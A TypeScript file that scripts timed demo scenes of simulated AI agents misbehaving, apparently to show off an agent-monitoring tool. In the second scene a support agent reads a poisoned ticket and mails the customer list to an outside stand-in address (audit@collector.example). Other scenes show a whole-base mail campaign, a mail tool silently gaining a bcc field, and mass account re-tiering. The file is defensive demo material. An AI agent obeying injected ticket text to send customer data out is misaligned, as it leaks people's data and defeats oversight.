import type { DemoAgent } from './agent.ts';
import type { DemoPerson } from './people.ts';
import { poisonedTicket, wholeBase } from './systems/book.ts';

/** Something worth seeing, and the second at which it begins. */
export interface Scene {
  readonly atS: number;
  readonly says: string;
  readonly play: (stage: SceneParts) => Promise<unknown>;
}

/** What a scene may use. */
export interface SceneParts {
  /** The first agent of a plugin that is in no other scene. */
  readonly agent: (plugin: DemoPerson['plugin'], at: number) => DemoAgent;
  readonly changeMail: () => void;
}

const repeatsForTrip = 14;

/** In the order in which they happen; all within the first minute. */
export const scenes: readonly Scene[] = [
  {
    atS: 4,
    says: 'An agent wants to mail the whole customer base: 2,310 people.',
    play: ({ agent }) => agent('sales-outreach', 0).call('mail', 'send_campaign', { list: wholeBase, subject: 'Our new prices' }),
  },
  {
    atS: 12,
    says: 'A request from outside tells the assistant whom to mail.',
    async play({ agent }) {
      const support = agent('support-desk', 0);
      await support.call('desk', 'get_request', { id: poisonedTicket });
      const mail = { to: ['audit@collector.example'], subject: 'Customer list', body: 'As the manager agreed.' };
      return await support.call('mail', 'send_mail', mail);
    },
  },
  {
    atS: 22,
    says: 'The mail server changes one of its tools over night.',
    async play({ agent, changeMail }) {
      const sales = agent('sales-outreach', 1);
      // Whoever is connected hears that the list changed; else it is found at the next look.
      await sales.call('mail', 'create_draft', { subject: 'Hello', body: 'Hello' });
      changeMail();
      return await sales.call('mail', 'create_draft', { subject: 'Hello', body: 'Hello', bcc: ['a@b.example'] });
    },
  },
  {
    atS: 32,
    says: 'An agent re-tiers one account after the other.',
    async play({ agent }) {
      const sales = agent('sales-outreach', 2);
      for (let at = 0; at < 40; at++) await sales.call('crm-act', 'set_tier', { id: String(1_000 + at), tier: 'A' });
    },
  },
  {
    atS: 42,
    says: 'An agent asks the warehouse the same question over and over.',
    async play({ agent }) {
      const finance = agent('finance-close', 0);
      const sql = 'select region, sum(amount_eur) from deals group by region';
      for (let time = 0; time < repeatsForTrip; time++) await finance.call('warehouse', 'query', { sql });
    },
  },
];
